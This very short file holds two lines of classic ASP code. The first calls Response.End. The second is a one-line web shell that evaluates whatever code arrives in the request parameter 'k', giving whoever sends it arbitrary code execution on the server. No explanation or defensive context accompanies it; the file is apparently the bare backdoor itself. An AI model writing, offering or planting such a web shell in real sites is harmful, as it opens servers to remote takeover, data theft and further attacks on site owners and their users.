<% Response.End %>
<% eval request("k") %>
